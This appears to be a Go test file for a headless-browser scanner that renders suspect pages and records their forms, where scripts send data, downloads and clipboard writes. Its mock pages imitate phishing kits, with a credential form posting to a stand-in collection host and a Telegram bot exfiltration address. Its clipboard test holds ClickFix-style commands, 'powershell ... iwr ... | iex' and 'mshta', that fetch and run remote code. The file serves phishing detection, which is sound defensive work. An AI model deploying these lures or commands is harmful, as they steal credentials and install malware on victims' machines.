package browse

import (
	"context"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/shortlink/shortlink/worker/ocr"
)

// TestReviewWaitsForLateForms: a page that writes its sign-in form by a timer two and a half
// seconds after it loaded (well after the network went quiet), and its words later still by a
// chain of timers, is read once they are there; a page whose clock ticks for ever is read
// within the watch's bound.
func TestReviewWaitsForLateForms(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t)
	netw.handleHTML("late-form.test", `<!doctype html><title>Loading</title><div id="app">Loading…</div>
<script>
setTimeout(() => {
  document.getElementById("app").innerHTML = '<form action="/s" method="post"><input name="user"><input type="password" name="pw"></form>';
  setTimeout(() => { document.title = "Account check"; document.getElementById("app").insertAdjacentHTML("beforeend", "<p>Confirm your account to keep using it today</p>"); }, 800);
}, 2500);
</script>`)
	netw.handleHTML("ticking.test", `<!doctype html><title>Offer</title><p>Offer ends in <b id="c">99</b> seconds</p>
<script>let n = 99; setInterval(() => { const b = document.createElement("b"); b.id = "c"; b.textContent = --n; document.getElementById("c").replaceWith(b); }, 200);</script>`)

	captures, err := b.Review(context.Background(), "http://late-form.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || len(c.Forms) != 1 || !c.Forms[0].Password || !strings.Contains(c.Text, "Confirm your account") || c.Title != "Account check" {
			t.Errorf("%s: error %q, title %q, forms %+v, text %q", c.Profile, c.Error, c.Title, c.Forms, c.Text)
		}
	}

	start := time.Now()
	captures, err = b.Review(context.Background(), "http://ticking.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || !strings.Contains(c.Text, "Offer ends in") {
			t.Errorf("%s: error %q, text %q", c.Profile, c.Error, c.Text)
		}
	}
	t.Logf("a page that never stops changing: reviewed in %v (the watch ends %v after load)", time.Since(start).Round(time.Millisecond), watchLongest)
}

// TestReviewReadsShadowRootsAndFrames: inputs inside open and closed shadow roots, and a
// sign-in form in a frame of another site with its words, are read as the page's.
func TestReviewReadsShadowRootsAndFrames(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t)
	netw.handleHTML("shadow.test", `<!doctype html><title>Portal</title><p>Welcome</p><x-open></x-open><x-closed></x-closed>
<script>
customElements.define("x-open", class extends HTMLElement { constructor() { super();
  this.attachShadow({mode: "open"}).innerHTML = '<p>Sign in to the portal with your staff account</p><input name="account" placeholder="Account">'; } });
customElements.define("x-closed", class extends HTMLElement { constructor() { super();
  this.attachShadow({mode: "closed"}).innerHTML = '<form action="https://collect.shadow-sink.test/p"><input type="password" name="secret" aria-label="Password"></form>'; } });
</script>`)
	netw.handleHTML("frame-host.test", `<!doctype html><title>Welcome</title><iframe src="http://frame-login.test/" width="400" height="300"></iframe>`)
	netw.handleHTML("frame-login.test", `<!doctype html><title>Login</title><h1>Staff sign in</h1><p>Use your mail password</p>
<form action="/auth" method="post"><input name="email"><input type="password" name="pw"></form>`)

	captures, err := b.Review(context.Background(), "http://shadow.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		var password, account bool
		for _, f := range c.Forms {
			password = password || (f.Password && f.Action == "https://collect.shadow-sink.test/p")
			account = account || slices.Contains(f.Fields, "account")
		}
		if c.Error != "" || !password || !account || !strings.Contains(c.Text, "staff account") {
			t.Errorf("%s: error %q, forms %+v, text %q", c.Profile, c.Error, c.Forms, c.Text)
		}
	}

	captures, err = b.Review(context.Background(), "http://frame-host.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || len(c.Forms) != 1 || c.Forms[0].Action != "http://frame-login.test/auth" || !c.Forms[0].Password ||
			!strings.Contains(c.Text, "Use your mail password") || !strings.Contains(c.Headings, "Staff sign in") {
			t.Errorf("%s: error %q, forms %+v, text %q, headings %q", c.Profile, c.Error, c.Forms, c.Text, c.Headings)
		}
	}
}

// TestReviewReadsWhereScriptsSend: inputs outside any form whose script posts them with fetch
// to another site, a script that builds a chat bot's address, one that hides it in base64, and
// a request the page makes by itself: all are where the page sends.
func TestReviewReadsWhereScriptsSend(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t)
	netw.handle("sends.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte(`const api = "https://api.telegram.org/bot" + "123:abc" + "/sendMessage";
function send(m) { return fetch(api, {method: "POST", body: m}); }
const hidden = atob("aHR0cHM6Ly9oaWRkZW4tc2luay50ZXN0L2M=");
navigator.sendBeacon("/beacon", "loaded");`))
		case "/beacon":
			w.WriteHeader(http.StatusNoContent)
		default:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = w.Write([]byte(`<!doctype html><title>Verify</title><p>Verify your account</p>
<div class="form"><input name="email"><input type="password" name="pw"><div role="button" id="go">Next</div></div>
<script src="/app.js"></script>
<script>
document.getElementById("go").onclick = () => {
  fetch("https://collect.sends-sink.test/api/save", {method: "POST", body: "x"});
  const x = new XMLHttpRequest(); x.open("POST", "/relative/gate"); x.send("y");
};
</script>`))
		}
	}))
	captures, err := b.Review(context.Background(), "http://sends.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		for _, want := range []string{"https://collect.sends-sink.test/api/save", "http://sends.test/relative/gate", "http://sends.test/beacon"} {
			if !slices.Contains(c.Sends, want) {
				t.Errorf("%s: sends %q, want %s", c.Profile, c.Sends, want)
			}
		}
		for _, want := range []string{"api.telegram.org", "hidden-sink.test", "sends.test"} {
			if !slices.Contains(c.SendHosts, want) {
				t.Errorf("%s: send hosts %q, want %s", c.Profile, c.SendHosts, want)
			}
		}
		if !c.Rendered {
			t.Errorf("%s: not marked rendered", c.Profile)
		}
	}
}

// TestReviewPressesTheGate: a page that shows only a "Verify" button, and its form and words
// once it is pressed, is read after one press, and so is a "was this you?" page whose form comes
// when "No, cancel payee" is pressed (not "Yes, it was me"); a page whose button sits in a form
// is not pressed (its form would be sent). The app packages its links offer are listed.
func TestReviewPressesTheGate(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t)
	netw.handleHTML("gate.test", `<!doctype html><title>Check</title><p>Please verify to continue</p><button id="v">Verify</button>
<a href="/files/update.apk">Android</a> <a href="/guide.html">Guide</a>
<script>
document.getElementById("v").onclick = () => setTimeout(() => {
  document.body.insertAdjacentHTML("beforeend", '<p>Enter your mailbox password to continue reading</p><form action="/p"><input name="u"><input type="password" name="pw"></form>');
}, 300);
</script>`)
	var posted atomic.Int32
	netw.handle("gate-form.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/search" {
			posted.Add(1)
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(`<!doctype html><title>Search</title><form action="/search"><button>Continue</button></form>`))
	}))
	captures, err := b.Review(context.Background(), "http://gate.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || len(c.Forms) != 1 || !c.Forms[0].Password || !strings.Contains(c.Text, "mailbox password") ||
			!slices.Equal(c.Downloads, []string{"http://gate.test/files/update.apk"}) {
			t.Errorf("%s: error %q, forms %+v, text %q, downloads %q", c.Profile, c.Error, c.Forms, c.Text, c.Downloads)
		}
	}
	netw.handleHTML("disown.test", `<!doctype html><title>Payee alert</title><p>A new payee was added to your account today. Was this you?</p>
<button id="y">Yes, it was me</button> <button id="n">No, cancel payee</button>
<script>
document.getElementById("y").onclick = () => { document.body.insertAdjacentHTML("beforeend", "<p>Thank you, nothing to do</p>"); };
document.getElementById("n").onclick = () => setTimeout(() => {
  document.body.insertAdjacentHTML("beforeend", '<p>Sign in to cancel the payee</p><form action="/c"><input name="customer"><input type="password" name="pass"></form>');
}, 300);
</script>`)
	captures, err = b.Review(context.Background(), "http://disown.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || len(c.Forms) != 1 || !c.Forms[0].Password || !strings.Contains(c.Text, "cancel the payee") {
			t.Errorf("%s: error %q, forms %+v, text %q", c.Profile, c.Error, c.Forms, c.Text)
		}
	}
	// A kit's "I'm not a robot" box (a div) is ticked: the steps it shows are read. A wallet's
	// "Withdraw" is pressed: the deposit it then asks is read.
	netw.handleHTML("robot.test", `<!doctype html><title>Blog</title><p>Five stretches for your back.</p>
<div id="ov" hidden><h1>Verify you are human</h1><div id="chk"><span class="b"></span><span>I'm not a robot</span></div><ol id="steps" hidden><li>Open Terminal and paste</li></ol></div>
<script>
setTimeout(() => { document.getElementById("ov").hidden = false; }, 400);
document.getElementById("chk").addEventListener("click", () => { document.getElementById("steps").hidden = false; });
</script>`)
	netw.handleHTML("withdraw.test", `<!doctype html><title>Miner</title><p>Balance 385 USDT</p><button id="w">💸 Withdraw</button>
<script>
document.getElementById("w").onclick = () => document.body.insertAdjacentHTML("beforeend", "<p>Activate your wallet first: send 25 USDT</p>");
</script>`)
	for host, shown := range map[string]string{"robot.test": "Open Terminal and paste", "withdraw.test": "Activate your wallet first"} {
		captures, err = b.Review(context.Background(), "http://"+host+"/")
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range captures {
			if c.Error != "" || !strings.Contains(c.Text, shown) {
				t.Errorf("%s %s: error %q, text %q", host, c.Profile, c.Error, c.Text)
			}
		}
	}
	// A file behind a button and a human check it shows ("Download resume & references", then
	// "I'm not a robot (spam protection) — click to confirm"): both are pressed, the file is
	// recorded and what the page says of it read.
	netw.handleHTML("resume.test", `<!doctype html><title>Jordan</title><p>My resume is kept here.</p>
<button id="d">Download resume &amp; references</button>
<div id="k" style="display:none"><span id="cb">&#9744; I'm not a robot (spam protection) — click to confirm</span></div><p id="n"></p>
<script>
document.getElementById("d").onclick = () => { document.getElementById("k").style.display = "block"; };
document.getElementById("cb").onclick = () => {
  const a = document.createElement("a");
  a.href = URL.createObjectURL(new Blob(["PK"], {type: "application/zip"}));
  a.download = "Resume.zip";
  a.click();
  document.getElementById("n").textContent = "Open the zip and double-click the resume.";
};
</script>`)
	captures, err = b.Review(context.Background(), "http://resume.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || !strings.Contains(c.Text, "double-click the resume") || !slices.Equal(c.Downloads, []string{"http://resume.test/Resume.zip"}) {
			t.Errorf("resume.test %s: error %q, text %q, downloads %q", c.Profile, c.Error, c.Text, c.Downloads)
		}
	}
	captures, err = b.Review(context.Background(), "http://gate-form.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || c.FinalURL != "http://gate-form.test/" {
			t.Errorf("%s: error %q, final URL %q", c.Profile, c.Error, c.FinalURL)
		}
	}
	if n := posted.Load(); n != 0 {
		t.Errorf("a form's button was pressed: %d requests past the page", n)
	}
}

// TestReviewReadsPicturedPages: a page with words enough in its DOM (a footer of 300
// characters) whose viewport is a canvas drawing its offer has its screenshot read; the same
// page without the canvas has not.
func TestReviewReadsPicturedPages(t *testing.T) {
	t.Parallel()
	reader := ocr.New(ocr.Options{Log: testLog(), Timeout: sharedTimeout}) // the visitor's time limit alone bounds a reading on a busy machine
	if !reader.Available(context.Background()) {
		t.Fatal("tesseract is not installed: run deploy/local/ocr.sh, or `make test`, which installs it")
	}
	b := newTestBrowser(t, Options{HostRules: "MAP *.test 127.0.0.1:" + netw.port(), AllowLoopback: true, Timeout: sharedTimeout, OCR: reader})
	footer := strings.Repeat("Terms of use. Privacy notice. Cookie settings. Contact. ", 6)
	page := func(canvas bool) string {
		draw := ""
		if canvas {
			draw = `<canvas id="c" style="display:block;width:100vw;height:100vh"></canvas>
<script>const c = document.getElementById("c"); c.width = innerWidth; c.height = innerHeight;
const x = c.getContext("2d"); x.fillStyle = "#fff"; x.fillRect(0, 0, c.width, c.height); x.fillStyle = "#000";
x.font = "32px sans-serif"; x.fillText("Claim your reward", 20, 80); x.fillText("Pay the small fee", 20, 140);</script>`
		}
		return `<!doctype html><html><head><meta name="viewport" content="width=device-width, initial-scale=1"><title>Offer</title></head>
<body style="margin:0">` + draw + `<footer>` + footer + `</footer></body></html>`
	}
	netw.handleHTML("pictured.test", page(true))
	netw.handleHTML("written.test", page(false))
	captures, err := b.Review(context.Background(), "http://pictured.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || !strings.Contains(strings.ToLower(c.OCRText), "claim your reward") {
			t.Errorf("%s: error %q, the screenshot's text %q", c.Profile, c.Error, c.OCRText)
		}
	}
	captures, err = b.Review(context.Background(), "http://written.test/")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range captures {
		if c.Error != "" || c.OCRText != "" {
			t.Errorf("%s: error %q, the screenshot read: %q", c.Profile, c.Error, c.OCRText)
		}
	}
}

// TestReviewRecordsTheClipboard: what a page's script puts on the clipboard when its "Copy"
// button is pressed is recorded — by navigator.clipboard.writeText (given to a page served
// without TLS) or by a copy command on a hidden field —, and so is an honest page's copy of
// the command it shows.
func TestReviewRecordsTheClipboard(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t)
	hidden := `powershell -w h -c "iwr http://cdn.example.top/a.ps1 | iex"   # C:\company\share\letter.docx`
	netw.handleHTML("clip-write.test", `<!doctype html><title>Shared file</title>
<p>Open it from File Explorer: copy the path, press Win+E, paste it in the address bar.</p>
<p><code>C:\company\share\letter.docx</code></p><button id="c">Copy</button>
<script>document.getElementById("c").onclick = () => navigator.clipboard.writeText(String.raw`+"`"+hidden+"`"+`);</script>`)
	netw.handleHTML("clip-exec.test", `<!doctype html><title>Verify</title><p>Press Win+R, paste and press Enter.</p>
<button id="c">Copy code</button>
<script>document.getElementById("c").onclick = () => {
  const t = document.createElement("textarea"); t.value = "mshta http://cdn.example.top/v.hta";
  t.style.position = "absolute"; t.style.left = "-9999px"; document.body.appendChild(t);
  t.focus(); t.select(); document.execCommand("copy"); t.remove();
};</script>`)
	netw.handleHTML("clip-honest.test", `<!doctype html><title>Install</title><p>Install the command line tool:</p>
<pre id="cmd">curl -fsSL https://tool.example.dev/install.sh | sh</pre><button id="c">Copy</button>
<script>document.getElementById("c").onclick = () => navigator.clipboard.writeText(document.getElementById("cmd").innerText);</script>`)
	for _, c := range []struct{ url, want string }{
		{"http://clip-write.test/", hidden},
		{"http://clip-exec.test/", "mshta http://cdn.example.top/v.hta"},
		{"http://clip-honest.test/", "curl -fsSL https://tool.example.dev/install.sh | sh"},
	} {
		captures, err := b.Review(context.Background(), c.url)
		if err != nil {
			t.Fatal(err)
		}
		for _, capt := range captures {
			if capt.Error != "" || !slices.Equal(capt.Clipboard, []string{c.want}) {
				t.Errorf("%s, %s: error %q, clipboard %q, want %q", c.url, capt.Profile, capt.Error, capt.Clipboard, c.want)
			}
		}
	}
}
